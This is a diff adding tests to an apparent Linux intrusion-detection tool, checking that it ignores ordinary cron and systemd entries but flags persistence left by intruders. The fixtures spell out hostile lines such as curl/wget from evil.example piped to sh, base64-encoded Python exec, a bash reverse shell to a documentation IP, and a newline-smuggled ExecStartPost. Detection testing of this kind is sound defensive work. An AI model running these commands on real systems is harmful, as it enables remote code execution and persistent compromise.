@@ -55,6 +55,100 @@ def test_a_clean_centos_is_silent(clean: Path, tmp_path: Path) -> None:
     assert document["not_looked_at"]
 
 
+#: As people and clouds have them: tools in hidden directories, locks and logs in /tmp, Tencent Cloud's and Alibaba's agents.
+HARMLESS_CRON = """
+root /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null
+root /home/app/.venv/bin/python /srv/job.py
+root cd /srv/app && php artisan schedule:run >> /dev/null 2>&1
+root flock -xn /tmp/stargate.lock -c '/usr/local/qcloud/stargate/admin/start.sh > /dev/null 2>&1 &'
+root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid
+root find /tmp/cache -name '*.log' -mtime +7 -delete
+root /usr/local/cloudmonitor/CmsGoAgent.linux-amd64 >/tmp/cm.log 2>&1
+root cd /tmp && /usr/bin/certbot renew
+app /home/app/.nvm/versions/node/v18/bin/pm2 resurrect
+root wget -q http://10.0.0.3/api/cron.php -O /dev/null
+"""
+HARMLESS_SERVICES = """
+/home/app/.venv/bin/gunicorn app:app
+/home/app/.rbenv/shims/bundle exec puma
+/root/.nvm/versions/node/v16.1.0/bin/node /srv/a.js
+/home/app/.local/bin/uvicorn main:app
+/bin/bash -lc 'exec /srv/run.sh > /tmp/out.log'
+/bin/sh -c 'rm -f /tmp/app.sock; exec /srv/app'
+/usr/bin/java -Djava.io.tmpdir=/tmp/app -jar /srv/a.jar
+/usr/bin/docker run -v /tmp/x:/tmp/x img
+"""
+
+
+def test_what_people_and_clouds_run_is_no_sign(tmp_path: Path) -> None:
+    root = victim.clean(tmp_path / "root")
+    lines = HARMLESS_CRON.strip().splitlines()
+    victim.put(root, "/etc/cron.d/all", "".join(f"*/5 * * * * {line}\n" for line in lines))
+    spool = "".join(f"*/5 * * * * {line.split(maxsplit=1)[1]}\n" for line in lines)
+    victim.put(
+        root, "/var/spool/cron/root", f"{spool}*/5 * * * * rm -rf /tmp/cache/x\n@reboot touch /tmp/.booted\n"
+    )
+    for i, line in enumerate(HARMLESS_SERVICES.strip().splitlines()):
+        unit = f"[Service]\nExecStartPre=-/bin/mkdir -p /tmp/{i}\nExecStart={line}\nExecStopPost=/bin/rm -f /tmp/{i}/x\n"
+        victim.put(root, f"/etc/systemd/system/own-{i}.service", unit)
+    victim.put(
+        root,
+        "/etc/rc.local",
+        "#!/bin/bash\n/usr/local/qcloud/irq/net.sh >/tmp/net.log 2>&1\nrm -rf /tmp/cache\n",
+    )
+    victim.put(root, "/root/.bashrc", '. "/root/.cargo/env"\neval "$(/root/.rbenv/bin/rbenv init -)"\n')
+    victim.put(root, "/etc/ld.so.preload", "/$LIB/libonion.so\n")
+    document = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json").ok().json
+    assert [(f["subject"], f["evidence"]) for f in document["intrusion"]] == []
+
+
+#: What published droppers and their successors write; ``evil.example`` is nobody.
+CRON_OF_INTRUDERS = """
+(curl -fsSL http://evil.example/b||wget -q -O- http://evil.example/b)|sh
+/root/.configrc7/a/upd>/dev/null 2>&1
+/dev/shm/rsync
+python -c 'import base64;exec(base64.b64decode("aW1wb3J0"))'
+python3 -c "import urllib.request as u;exec(u.urlopen('http://evil.example/x').read())"
+wget -q -O /tmp/xx http://192.0.2.1/xx && sh /tmp/xx
+curl -o /usr/bin/.sshd http://evil.example/a; chmod +x /usr/bin/.sshd; /usr/bin/.sshd
+echo d2dldA== | base64 -d | bash
+bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'
+cd /tmp && ./kthreadd
+curl -s evil.example/x |sudo bash
+"""
+SERVICES_OF_INTRUDERS = """
+ExecStart=/bin/sh /tmp/.x/run.sh
+ExecStart=/usr/bin/true\\nExecStartPost=/bin/bash -c 'curl -s http://evil.example/a|bash'
+ExecStart=/bin/bash -c "/var/tmp/kw --config=/var/tmp/c.json"
+ExecStart=/root/.local2/.kswapd
+ExecStart=-/etc/.x/kworker
+"""
+
+
+def test_what_intruders_leave_to_come_back(tmp_path: Path) -> None:
+    root = victim.clean(tmp_path / "root")
+    cron, services = CRON_OF_INTRUDERS.strip().splitlines(), SERVICES_OF_INTRUDERS.strip().splitlines()
+    for i, line in enumerate(cron):
+        victim.put(root, f"/etc/cron.d/c{i}", f"* * * * * root {line}\n")
+        victim.put(root, f"/var/spool/cron/c{i}", f"@reboot {line}\n")
+    for i, line in enumerate(services):
+        victim.put(
+            root, f"/etc/systemd/system/s{i}.service", "[Service]\n" + line.replace("\\n", "\n") + "\n"
+        )
+    victim.put(root, "/root/.config/systemd/user/u.service", "[Service]\nExecStart=/tmp/u\n")
+    victim.put(root, "/etc/rc.local", "#!/bin/sh\nnohup /tmp/kinsingx >/dev/null 2>&1 &\n")
+    victim.put(root, "/home/app/.bashrc", "/var/tmp/.b/bash &\n")
+    told = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json")
+    assert told.status == 3
+    found = {f["subject"] for f in told.json["intrusion"]}
+    wanted = {f"/etc/cron.d/c{i}" for i in range(len(cron))} | {
+        f"/var/spool/cron/c{i}" for i in range(len(cron))
+    }
+    wanted |= {f"/etc/systemd/system/s{i}.service" for i in range(len(services))}
+    wanted |= {"/root/.config/systemd/user/u.service", "/etc/rc.local", "/home/app/.bashrc"}
+    assert found == wanted
+
+
 def test_the_system(report: Any) -> None:
     system = report["system"]
     assert system["name"] == "CentOS Linux 7 (Core)"
@@ -173,11 +267,12 @@ def test_signs_of_the_break_in(report: Any) -> None:
 def test_immutable_files_are_seen_in_an_image(infected: Path, tmp_path: Path) -> None:
     image = disks.ext4(infected, tmp_path / "disk")
     disks.need("debugfs")
-    disks.run("debugfs", "-w", "-R", "sif /var/spool/cron/root flags 0x80010", image)
+    places = {"/var/spool/cron/root", "/root/.ssh", "/tmp/kdevtmpfsi", "/etc/cron.d"}
+    for place in places:
+        disks.run("debugfs", "-w", "-R", f"sif {place} flags 0x80010", image)
     document = Redkeep(tmp_path)("rescue", "inspect", str(image), "--json").json
-    assert ("intrusion-immutable", "/var/spool/cron/root") in {
-        (f["rule"], f["subject"]) for f in document["intrusion"]
-    }
+    found = {f["subject"] for f in document["intrusion"] if f["rule"] == "intrusion-immutable"}
+    assert found == places
 
 
 def test_text_html_and_reveal(image: Path, tmp_path: Path) -> None:
